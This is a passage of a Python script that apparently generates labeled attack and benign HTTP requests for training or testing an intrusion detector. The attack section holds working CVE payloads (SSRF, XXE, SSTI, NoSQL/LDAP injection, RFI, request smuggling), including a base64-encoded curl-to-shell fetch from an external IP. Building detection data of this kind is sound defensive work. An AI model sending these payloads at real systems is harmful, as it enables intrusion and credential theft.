          "/avatar/%s%%3fd%%3dredirect.rhynorater.com%%25253f%%253bx%%2fhttp%%3A%%252F%%252F169.254.169.254%%252Flatest%%252Fmeta-data" % hexs(rng, 32), atk(rng))
    # Apache httpd mod_proxy unix socket SSRF (CVE-2021-40438)
    o.add("ssrf", "httpd-cve-2021-40438", "GET", th(rng, "httpd"), "/?unix:" + "A" * 5000 + "|http://169.254.169.254/latest/meta-data/", atk(rng))
    # Spring Cloud Gateway route to metadata
    o.add("ssrf", "spring-cloud-gateway-route", "POST", th(rng, "spring"), "/actuator/gateway/routes/metadata",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"id": "metadata", "predicates": [{"name": "Path", "args": {"_genkey_0": "/meta/**"}}],
                 "filters": [{"name": "RewritePath", "args": {"_genkey_0": "/meta/(?<segment>.*)", "_genkey_1": "/latest/meta-data/${segment}"}}],
                 "uri": "http://169.254.169.254", "order": 0}))
    # Ivanti CVE-2024-21893 SAML SSRF
    o.add("ssrf", "ivanti-cve-2024-21893", "POST", th(rng, "pulse"), "/dana-ws/saml20.ws",
          atk(rng, [("Content-Type", "text/xml")]),
          '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/></ds:SignedInfo><ds:SignatureValue>qwerty</ds:SignatureValue><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3bcurl%20' + oast(rng) + '%3b"/><ds:X509Data/></ds:KeyInfo><ds:Object></ds:Object></ds:Signature></soap:Body></soap:Envelope>')
    # PDF renderers (wkhtmltopdf / headless Chrome)
    o.add("ssrf", "pdf-render", "POST", th(rng, "misc"), "/api/v1/invoices/render",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"template": "invoice", "html": '<h1>Invoice</h1><iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="800" height="600"></iframe>'}))
    o.add("lfi", "pdf-render", "POST", th(rng, "misc"), "/reports/export/pdf",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("title", "Q3"), ("notes", '<link rel=attachment href="file:///etc/passwd"><iframe src="file:///proc/self/environ"></iframe>')]))
    o.add("ssrf", "pdf-render", "POST", th(rng, "misc"), "/api/render/pdf",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"content": "<script>x=new XMLHttpRequest;x.onload=function(){document.write(this.responseText)};x.open('GET','http://169.254.169.254/latest/meta-data/iam/security-credentials/');x.send();</script>", "format": "A4"}))


# ---- XXE ------------------------------------------------------------------

def a_xxe(o):
    rng = R("xxe")
    saml = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE samlp:Response [<!ENTITY % s SYSTEM "http://' + oast(rng) + '/saml.dtd"> %s;]>'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" IssueInstant="2026-11-30T10:00:00Z" Destination="https://sso.example.com/saml/acs">'
            '<saml:Issuer>https://idp.example.org</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>').replace("_%s", "_" + hexs(rng, 32))
    o.add("xxe", "saml-xxe", "POST", "sso.example.com", "/saml/acs",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "SAMLResponse=" + Q(b64(saml)) + "&RelayState=%2F")
    saml2 = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:Subject><saml:NameID>&xxe;</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>')
    o.add("xxe", "saml-xxe", "POST", "gitlab.example.com", "/users/auth/saml/callback",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "SAMLResponse=" + QP(b64(saml2)))
    o.add("xxe", "saml-xxe", "POST", "jira.example.com", "/plugins/servlet/samlconsumer",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "SAMLResponse=" + QP(saml2))
    req = ('<?xml version="1.0" ?><!DOCTYPE root [<!ENTITY % xxe SYSTEM "http://' + oast(rng) + '/x.dtd"> %xxe;]>'
           '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0" IssueInstant="2024-02-09T00:00:00Z"/>')
    o.add("xxe", "ivanti-cve-2024-22024", "POST", th(rng, "pulse"), "/dana-na/auth/saml-sso.cgi",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "SAMLRequest=" + b64(req))
    for ent in ['<!ENTITY fileContents SYSTEM "file:///opt/zimbra/conf/localconfig.xml">']:
        o.add("xxe", "zimbra-cve-2019-9670", "POST", th(rng, "exchange"), "/Autodiscover/Autodiscover.xml",
              atk(rng, [("Content-Type", "text/xml")]),
              '<!DOCTYPE xxe [<!ELEMENT name ANY >%s]><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"><Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&fileContents;</AcceptableResponseSchema></Request></Autodiscover>' % ent)
    for path in ["/rest/V1/guest-carts/1/estimate-shipping-methods", "/rest/default/V1/guest-carts/%s/estimate-shipping-methods" % alnum(rng, 32)]:
        o.add("xxe", "magento-cve-2024-34102", "POST", th(rng, "php"), path,
              atk(rng, [("Content-Type", "application/json")]),
              jdump({"address": {"totalsReader": {"collectorList": {"totalCollector": {"sourceData": {
                  "data": "<?xml version=\"1.0\" ?> <!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY % sp SYSTEM \"http://" + oast(rng) + "/dtd.xml\"> %sp; %param1; ]> <r>&exfil;</r>",
                  "options": 16}}}}}}))
    o.add("xxe", "solr-cve-2017-12629", "GET", th(rng, "solr"),
          "/solr/products/select?q=" + Q("{!xmlparser v='<!DOCTYPE a SYSTEM \"http://%s/xxe\"><a></a>'}" % oast(rng)) + "&wt=xml", atk(rng))
    o.add("xxe", "ofbiz-cve-2018-8033", "POST", "erp.example.com:8443", "/webtools/control/xmlrpc",
          atk(rng, [("Content-Type", "application/xml")]),
          '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY disclose SYSTEM "file:///etc/passwd">]><methodCall><methodName>&disclose;</methodName></methodCall>')
    o.add("xxe", "soap-xxe", "POST", th(rng, "weblogic"), "/axis2/services/OrderService",
          atk(rng, [("Content-Type", "text/xml; charset=utf-8"), ("SOAPAction", '"urn:getOrder"')]),
          '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ord="http://example.com/orders"><soapenv:Body><ord:getOrder><ord:id>&xxe;</ord:id></ord:getOrder></soapenv:Body></soapenv:Envelope>')
    ct, b = multipart(rng, [("file", "chart.svg", "image/svg+xml",
                             '<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>')])
    o.add("xxe", "svg-upload-xxe", "POST", th(rng, "confluence"),
          "/plugins/drag-and-drop/upload.action?pageId=%d&filename=chart.svg&size=312&mimeType=image%%2Fsvg%%2Bxml" % rng.randint(100000, 999999),
          atk(rng, [("Content-Type", ct)]), b)
    o.add("xxe", "solr-extract-xxe", "POST", th(rng, "solr"), "/solr/docs/update/extract?literal.id=doc1&commit=true",
          atk(rng, [("Content-Type", "application/xml")]),
          '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///var/solr/data/security.json">]><foo>&xxe;</foo>')
    o.add("xxe", "webdav-propfind-xxe", "PROPFIND", "cloud.example.com", "/remote.php/dav/files/admin/",
          atk(rng, [("Content-Type", "application/xml"), ("Depth", "1")]),
          '<?xml version="1.0"?><!DOCTYPE d:propfind [<!ENTITY % pe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config/config.php">]><d:propfind xmlns:d="DAV:"><d:prop><d:getlastmodified/></d:prop></d:propfind>')
    o.add("xxe", "xinclude", "POST", th(rng, "misc"), "/api/v1/import/xml",
          atk(rng, [("Content-Type", "application/xml")]),
          '<order xmlns:xi="http://www.w3.org/2001/XInclude"><id>1</id><note><xi:include parse="text" href="file:///etc/passwd"/></note></order>')


# ---- SSTI -----------------------------------------------------------------

def a_ssti(o):
    rng = R("ssti")
    for fld in ["{{var this.getTemplateFilter().filter(order)}}{{var this.getTemplateFilter().addAfterFilterCallback(base64_decode).addAfterFilterCallback(system).filter(Y3VybCBodHRwOi8vNDUuMTU1LjIwNS4yMzMvbS5zaHxzaA==)}}"]:
        o.add("ssti", "magento-cve-2022-24086", "POST", th(rng, "php"), "/rest/default/V1/guest-carts/%s/shipping-information" % alnum(rng, 32),
              atk(rng, [("Content-Type", "application/json")]),
              jdump({"addressInformation": {"shipping_address": {"countryId": "US", "regionId": "12", "region": "California", "street": ["1 Main St"],
                     "company": "", "telephone": "5555555555", "postcode": "90001", "city": "Los Angeles", "firstname": fld, "lastname": "Doe"},
                     "shipping_method_code": "flatrate", "shipping_carrier_code": "flatrate"}}))
    o.add("ssti", "craft-twig", "GET", th(rng, "php"), "/search?q=" + Q("{{['id']|filter('system')}}"), atk(rng))
    o.add("ssti", "grav-twig", "POST", th(rng, "php"), "/admin/pages/home",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("task", "save"), ("data[header][title]", "Home"), ("data[content]", "{{ grav.twig.twig.registerUndefinedFilterCallback('system') }}{{ grav.twig.twig.getFilter('curl %s') }}" % oast(rng)),
                ("admin-nonce", hexs(rng, 32))]))
    o.add("ssti", "jinja2-superset", "POST", "superset.example.com", "/api/v1/sqllab/execute/",
          atk(rng, [("Content-Type", "application/json"), ("X-CSRFToken", alnum(rng, 40))]),
          jdump({"database_id": 1, "sql": "SELECT '{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}'", "runAsync": False, "schema": "public", "templateParams": "{}"}))
    o.add("ssti", "freemarker-cms", "POST", th(rng, "misc"), "/admin/templates/email/save",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("name", "welcome"), ("body", '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }')]))
    o.add("ssti", "velocity-generic", "POST", th(rng, "jira"), "/rest/api/2/issue",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"fields": {"project": {"key": "OPS"}, "summary": "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")", "issuetype": {"name": "Task"}}}))
    o.add("ssti", "el-injection", "GET", th(rng, "misc"), "/faces/error.xhtml?msg=" + Q("#{facesContext.getExternalContext().getResponse().getWriter().print(\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\"))}"), atk(rng))


# ---- NoSQL / LDAP / CRLF / RFI / protocol / scanner -----------------------

def a_misc(o):
    rng = R("misc")
    # NoSQL
    o.add("nosqli", "rocketchat-cve-2021-22911", "POST", "chat.example.com", "/api/v1/method.callAnon/getPasswordPolicy",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"message": jdump({"msg": "method", "method": "getPasswordPolicy", "params": [{"token": {"$regex": "^a"}}]})}))
    o.add("nosqli", "rocketchat-cve-2021-22911", "GET", "chat.example.com",
          "/api/v1/users.list?query=" + Q('{"$where":"this.username===\'admin\' && (()=>{ throw this.services.password.bcrypt })()"}'),
          atk(rng, [("X-User-Id", alnum(rng, 17)), ("X-Auth-Token", alnum(rng, 43))]))
    o.add("nosqli", "login-ne", "POST", th(rng, "misc"), "/api/auth/login",
          atk(rng, [("Content-Type", "application/json")]), '{"username":{"$ne":null},"password":{"$ne":null}}')
    o.add("nosqli", "login-ne", "POST", th(rng, "misc"), "/login",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "username%5B%24ne%5D=x&password%5B%24ne%5D=x")
    o.add("nosqli", "login-gt", "POST", th(rng, "misc"), "/api/v1/session",
          atk(rng, [("Content-Type", "application/json")]), '{"email":"admin@example.com","password":{"$gt":""}}')
    o.add("nosqli", "where-sleep", "GET", th(rng, "misc"),
          "/api/products?filter=" + Q('{"$where":"sleep(5000) || true"}'), atk(rng))
    # LDAP
    for u in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin*)((|userPassword=*)"]:
        kind, path = rng.choice([("grafana", "/login"), ("jenkins", "/j_spring_security_check"), ("misc", "/auth/ldap")])
        if kind == "grafana":
            body = jdump({"user": u, "password": "x"})
            ctp = "application/json"
        elif kind == "jenkins":
            body = form([("j_username", u), ("j_password", "x"), ("from", "/"), ("Submit", "Sign in")])
            ctp = "application/x-www-form-urlencoded"
        else:
            body = form([("username", u), ("password", "x")])
            ctp = "application/x-www-form-urlencoded"
        o.add("ldapi", "login-ldap", "POST", th(rng, kind), path, atk(rng, [("Content-Type", ctp)]), body)
    # CRLF
    o.add("crlf", "citrix-cve-2023-24488", "GET", th(rng, "citrix"),
          "/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a%3Cscript%3Ealert(document.cookie)%3C/script%3E", atk(rng))
    o.add("crlf", "nginx-path-crlf", "GET", th(rng, "misc"), "/%0d%0aSet-Cookie:crlf=injection;domain=.example.com", atk(rng))
    o.add("crlf", "atlassian-os-destination", "GET", th(rng, "confluence"),
          "/login.action?os_destination=%0D%0ALocation:%20https://evil.example.net/phish", atk(rng))
    o.add("crlf", "spring-redirect", "GET", th(rng, "spring"), "/logout?redirect=%2F%0d%0aX-Injected:%20header%0d%0aSet-Cookie:%20SESSION=attacker", atk(rng))
    o.add("crlf", "unicode-crlf", "GET", th(rng, "wordpress"),
          "/wp-login.php?redirect_to=%E5%98%8A%E5%98%8DSet-Cookie:%20test=%E5%98%8A%E5%98%8D", atk(rng))
    o.add("crlf", "gitlab-header-crlf", "GET", th(rng, "gitlab"),
          "/-/redirect?url=/%0d%0a%0d%0a<html><script>alert(1)</script></html>", atk(rng))
    # RFI
    o.add("rfi", "craft-cve-2024-56145", "GET", th(rng, "php"), "/index.php?--templatesPath=ftp://%s:2121/" % evil_ip(rng), atk(rng))
    o.add("rfi", "wp-gwolle-cve-2015-8351", "GET", th(rng, "wordpress"),
          "/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http://%s/wp-load.php?" % evil_ip(rng), atk(rng))
    o.add("rfi", "php-cgi-remote-prepend", "GET", th(rng, "php"),
          "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://" + evil_ip(rng) + "/shell.txt", atk(rng))
    # protocol
    o.add("protocol", "citrixbleed-cve-2023-4966", "GET", "a" * 24812, "/oauth/idp/.well-known/openid-configuration", atk(rng))
    smug = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n"
    o.add("protocol", "smuggling-cl-te", "POST", th(rng, "misc"), "/",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Transfer-Encoding", "chunked")]), smug)
    o.add("protocol", "smuggling-te-obfuscated", "POST", th(rng, "misc"), "/api/v1/orders",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity")]),
          "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
    o.add("protocol", "haproxy-cve-2021-40346", "POST", th(rng, "misc"), "/index.html",
          atk(rng, [("Content-Length0" + "a" * 255, "")]),
          "GET /admin/users HTTP/1.1\r\nHost: localhost\r\n\r\n")
    o.add("protocol", "httpd-cve-2023-25690", "GET", th(rng, "httpd"),
          "/categories/1%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0aGET%20/server-status", atk(rng))
    o.add("protocol", "f5-cve-2023-46747", "POST", th(rng, "f5"), "/tmui/login.jsp",
          atk(rng, [("Transfer-Encoding", "chunked, chunked"), ("Content-Type", "application/x-www-form-urlencoded")]),
          "204\r\n\x00\x12\x02\x02\x00\x08HTTP/1.1\x00\x00\x12/tmui/Control/form\x00\x00\x09127.0.0.1\x00\x00\x09localhost\x00\x00\x09localhost\x00\x00P\x00\x00\x03\xa0\x0b\x00\x09localhost\x00\xa0\x0e\x00\x07Firefox\x00\r\n0\r\n\r\n")
    # scanner
    nuclei = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    scans = [("spring", "/actuator/env", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
             ("php", "/.env", "Mozilla/5.0 zgrab/0.x"),
             ("gitlab", "/.git/config", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36 l9explore/1.2.2"),
             ("httpd", "/server-status", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
             ("php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "python-requests/2.25.1"),
             ("elastic", "/_cat/indices?v", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
             ("wordpress", "/wp-content/plugins/revslider/release_log.txt", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
             ("misc", "/api/index.php/v1/config/application?public=true", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Nikto/2.5.0")]
    for kind, path, ua in scans:
        o.add("scanner", "cve-probe", "GET", th(rng, kind), path, atk(rng, ua=ua))


ATTACK_GENS = [a_struts, a_spring, a_log4shell, a_confluence, a_devtools, a_traversal, a_microsoft_vmware,
               a_php, a_middleware, a_rce, a_sqli, a_xss, a_ssrf, a_xxe, a_ssti, a_misc]


def attacks():
    o = Out("detect")
    for g in ATTACK_GENS:
        g(o)
    return o.rows


# ==========================================================================
# BENIGN: ordinary traffic of the same products
# ==========================================================================

FIRST = ["Anna", "James", "Priya", "Sean", "Mei", "Lukas", "Fatima", "Diego", "Olga", "Kwame", "Chloé", "Jörg",
         "Siobhán", "Mateo", "Aisha", "Tomasz", "Hiroshi", "Emma", "Noah", "Zoë"]
LAST = ["O'Brien", "Müller", "Nguyen", "Kowalski", "Smith", "García", "D'Souza", "Tanaka", "Okafor", "Johansson",
        "van der Berg", "O'Neil", "Rossi", "Dubois", "Petrov", "Patel", "McAllister", "Núñez", "Schmidt", "Ó Súilleabháin"]
SPACES = ["ENG", "OPS", "SEC", "HR", "PLAT", "DATA", "MKT", "SUP"]
PAGE_TITLES = ["Release Notes 2026.11", "On-call Runbook", "Q&A with the Platform team", "Kubernetes Upgrade – 1.31",
               "Incident 2026-11-28: checkout latency", "Onboarding checklist (new engineers)", "API style guide",
               "Retro – Sprint 48", "Vendor evaluation: log storage", "How to request VPN access", "Holiday rota Dec/Jan",
               "Architecture Decision Record 017: event bus", "Team OKRs FY27 H1", "Travel & expenses policy"]
SEARCH_WORDS = ["helm chart", "vpn access", "expense report", "incident review", "onboarding", "release train",
                "drop-down menu", "union station office", "select a mentor", "password reset", "sso login loop",
                "kafka consumer lag", "dark mode", "out of office", "order by date", "exec summary Q3"]


def person(rng):
    return rng.choice(FIRST), rng.choice(LAST)


def uname(rng):
    f, l = person(rng)
    s = unicodedata.normalize("NFKD", f[0] + l)
    return "".join(c for c in s if c.isascii() and c.isalnum()).lower()


def ms(rng):
    return str(rng.randint(1764000000000, 1765000000000))


def run(o, group, n, templates, rng):
    for i in range(n):
        t = templates[i % len(templates)]
        method, host, uri, headers, body = t(rng, i)
        o.add("benign", group, method, host, uri, headers, body)


# ---- Confluence -----------------------------------------------------------

def b_confluence(o):
    rng = R("b:confluence")
    H = ["confluence.example.com", "wiki.corp.example.net"]

    def ck(r):
        return "JSESSIONID=%s; seraph.confluence=%s%%3A%s; confluence.list.pages.cookie=list-content-tree; mywork.tab.tasks=false" % (
            hexs(r, 32).upper(), digits(r, 8), hexs(r, 40))

    def tok(r):
        return hexs(r, 40)

    def t_display(r, i):
        t = r.choice(PAGE_TITLES)
        return "GET", r.choice(H), "/display/%s/%s" % (r.choice(SPACES), QP(t)), browser(r, cookie=ck(r)), None

    def t_viewpage(r, i):
        return "GET", r.choice(H), "/pages/viewpage.action?pageId=%d" % r.randint(1000000, 99999999), browser(r, cookie=ck(r), referer="https://confluence.example.com/dashboard.action"), None

    def t_cql(r, i):
        cql = r.choice(['type=page AND space=%s AND text~"%s" ORDER BY lastmodified DESC' % (r.choice(SPACES), r.choice(SEARCH_WORDS)),
                        'title~"incident*" AND created>=now("-30d")',
                        'label in ("runbook","oncall") AND ancestor=%d' % r.randint(100000, 999999),
                        'creator=currentUser() AND type=blogpost ORDER BY created DESC',
                        'space.key in ("OPS","SEC") AND lastmodified > startOfMonth()'])
        return "GET", r.choice(H), "/rest/api/content/search?cql=%s&limit=25&expand=space,version" % Q(cql), browser(r, ACCEPT_JSON, ck(r), extra=[("X-Requested-With", "XMLHttpRequest")]), None

    def t_sitesearch(r, i):
        q = r.choice(SEARCH_WORDS)
        return "GET", r.choice(H), "/rest/api/search?cql=%s&start=0&limit=20&excerpt=highlight&expand=space.icon&includeArchivedSpaces=false&src=next.ui.search" % Q('siteSearch ~ "%s" AND type in ("space","user","page","blogpost","attachment")' % q), browser(r, ACCEPT_JSON, ck(r)), None

    def t_getcontent(r, i):
        return "GET", r.choice(H), "/rest/api/content/%d?expand=body.storage,version,ancestors,space" % r.randint(1000000, 99999999), browser(r, ACCEPT_JSON, ck(r)), None

    def t_update(r, i):
        pid = r.randint(1000000, 99999999)
        f, l = person(r)
        storage = ('<p>Owner: <ac:link><ri:user ri:userkey="%s" /></ac:link> (%s %s)</p>'
                   '<ac:structured-macro ac:name="info" ac:schema-version="1" ac:macro-id="%s"><ac:rich-text-body><p>Maintenance window is Sunday 02:00&ndash;04:00 UTC. Customers in APAC are notified 48h ahead.</p></ac:rich-text-body></ac:structured-macro>'
                   '<h2>Services</h2><table class="wrapped"><colgroup><col /><col /></colgroup><tbody><tr><th>Service</th><th>Status</th></tr>'
                   '<tr><td>checkout-api</td><td><ac:structured-macro ac:name="status" ac:schema-version="1"><ac:parameter ac:name="colour">Green</ac:parameter><ac:parameter ac:name="title">OK</ac:parameter></ac:structured-macro></td></tr>'
                   '<tr><td>search &amp; recommendations</td><td>Degraded &gt; 2%% errors</td></tr></tbody></table>'
                   '<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-status>incomplete</ac:task-status><ac:task-body>Confirm rollback plan with @%s</ac:task-body></ac:task></ac:task-list>') % (hexs(r, 32), f, l, uuid(r), uname(r))
        body = jdump({"id": str(pid), "type": "page", "title": r.choice(PAGE_TITLES), "space": {"key": r.choice(SPACES)},
                      "body": {"storage": {"value": storage, "representation": "storage"}}, "version": {"number": r.randint(2, 40), "message": "Updated status table"}})
        return "PUT", r.choice(H), "/rest/api/content/%d" % pid, browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", "application/json"), ("X-Atlassian-Token", "no-check")]), body

    def t_comment(r, i):
        msg = r.choice(["<p>LGTM, thanks for writing this up! One question: do we still need the manual DNS step?</p>",
                        "<p>I've updated the diagram &ndash; see v3 attached. <strong>Please review before Friday.</strong></p>",
                        "<p>+1 to option B. Option A's cost estimate (&euro;4,200/month) seems low.</p>",
                        "<p>Moved the FAQ section to <a href=\"https://confluence.example.com/display/HR/FAQ\">HR/FAQ</a>.</p>"])
        body = jdump({"type": "comment", "container": {"id": str(r.randint(1000000, 99999999)), "type": "page"},
                      "body": {"storage": {"value": msg, "representation": "storage"}}})
        return "POST", r.choice(H), "/rest/api/content", browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", "application/json; charset=utf-8"), ("X-Atlassian-Token", "no-check")]), body

    def t_quickreload(r, i):
        return "GET", r.choice(H), "/rest/quickreload/latest/%d?since=%s&_=%s" % (r.randint(1000000, 99999999), ms(r), ms(r)), browser(r, ACCEPT_JSON, ck(r), extra=[("X-Requested-With", "XMLHttpRequest")]), None

    def t_notif(r, i):
        return "GET", r.choice(H), "/rest/mywork/latest/status/notification/count?_=%s" % ms(r), browser(r, ACCEPT_JSON, ck(r), extra=[("X-Requested-With", "XMLHttpRequest")]), None

    def t_batch(r, i):
        return "GET", r.choice(H), "/s/%s-CDN/-%s/8703/%s/%s/_/download/batch/com.atlassian.confluence.plugins.confluence-editor:editor-resources/com.atlassian.confluence.plugins.confluence-editor:editor-resources.js?locale=en-GB" % (
            alnum(r, 6).lower(), alnum(r, 6).lower(), hexs(r, 7), r.choice(["1.0", "8.5.4", "_"])), browser(r, "*/*", ck(r)), None

    def t_macro_preview(r, i):
        body = jdump({"contentId": str(r.randint(1000000, 99999999)), "macro": {"name": "jira", "params": {"server": "Jira", "serverId": uuid(r), "key": "OPS-%d" % r.randint(1, 9999)}, "body": ""}})
        return "POST", r.choice(H), "/rest/tinymce/1/macro/preview", browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", "application/json; charset=utf-8"), ("X-Requested-With", "XMLHttpRequest")]), body

    def t_upload(r, i):
        csv = "date,primary,secondary\n2026-12-01,%s,%s\n2026-12-08,%s,%s\n" % (uname(r), uname(r), uname(r), uname(r))
        ct, b = multipart(r, [("file", "oncall-schedule.csv", "text/csv", csv)])
        return "POST", r.choice(H), "/plugins/drag-and-drop/upload.action?pageId=%d&filename=oncall-schedule.csv&size=%d&minorEdit=true&spaceKey=OPS&mimeType=text%%2Fcsv&atl_token=%s&contentType=page&isVFMSupported=true&name=oncall-schedule.csv" % (r.randint(1000000, 99999999), len(csv), tok(r)), browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", ct), ("X-Atlassian-Token", "no-check")]), b

    def t_heartbeat(r, i):
        body = form([("draftType", "page"), ("entityId", str(r.randint(1000000, 99999999))), ("contentType", "page"), ("spaceKey", r.choice(SPACES)), ("atl_token", tok(r))])
        return "POST", r.choice(H), "/json/startheartbeatactivity.action", browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), body

    def t_diff(r, i):
        v = r.randint(2, 30)
        return "GET", r.choice(H), "/pages/diffpagesbyversion.action?pageId=%d&selectedPageVersions=%d&selectedPageVersions=%d" % (r.randint(1000000, 99999999), v, v + 1), browser(r, cookie=ck(r)), None

    def t_analytics(r, i):
        body = jdump([{"name": "confluence.page.view", "properties": {"pageId": r.randint(1000000, 99999999), "spaceKey": r.choice(SPACES), "source": "dashboard"}, "privacyPolicyConsent": False, "clientTime": int(ms(r))}])
        return "POST", r.choice(H), "/rest/analytics/1.0/publish/bulk", browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", "application/json")]), body

    def t_attachment(r, i):
        return "GET", r.choice(H), "/download/attachments/%d/%s?version=%d&modificationDate=%s&api=v2" % (r.randint(1000000, 99999999), r.choice(["diagram.png", "Q3%20Budget.xlsx", "architecture-v2.drawio.png", "meeting%20notes.pdf"]), r.randint(1, 6), ms(r)), browser(r, "image/avif,image/webp,*/*", ck(r)), None

    def t_login(r, i):
        dest = "/pages/viewpage.action?pageId=%d" % r.randint(1000000, 99999999)
        return "GET", r.choice(H), "/login.action?os_destination=%s&permissionViolation=true" % Q(dest), browser(r), None

    def t_dologin(r, i):
        body = form([("os_username", uname(r)), ("os_password", alnum(r, 14)), ("login", "Log in"), ("os_destination", "/display/%s" % r.choice(SPACES))])
        return "POST", r.choice(H), "/dologin.action", browser(r, cookie="JSESSIONID=%s" % hexs(r, 32).upper(), extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://confluence.example.com")]), body

    def t_spaces(r, i):
        return "GET", r.choice(H), "/rest/api/space?limit=25&start=0&type=global&status=current", browser(r, ACCEPT_JSON, ck(r)), None

    run(o, "confluence", 44, [t_display, t_viewpage, t_cql, t_sitesearch, t_getcontent, t_update, t_comment, t_quickreload,
                              t_notif, t_batch, t_macro_preview, t_upload, t_heartbeat, t_diff, t_analytics, t_attachment,
                              t_login, t_dologin, t_spaces, t_update, t_cql, t_display], rng)


# ---- Jira / Bitbucket ------------------------------------------------------

def b_jira(o):
    rng = R("b:jira")
    H = ["jira.example.com", "issues.corp.example.net"]
    PK = ["OPS", "WEB", "PAY", "SEC", "DATA", "MOB"]

    def ck(r):
        return "JSESSIONID=%s; atlassian.xsrf.token=B%s-%s-%s-%s|%s|lin" % (hexs(r, 32).upper(), hexs(r, 3).upper(), hexs(r, 4).upper(), hexs(r, 4).upper(), hexs(r, 4).upper(), hexs(r, 40))

    def key(r):
        return "%s-%d" % (r.choice(PK), r.randint(1, 9999))

    def api(r, ct=None):
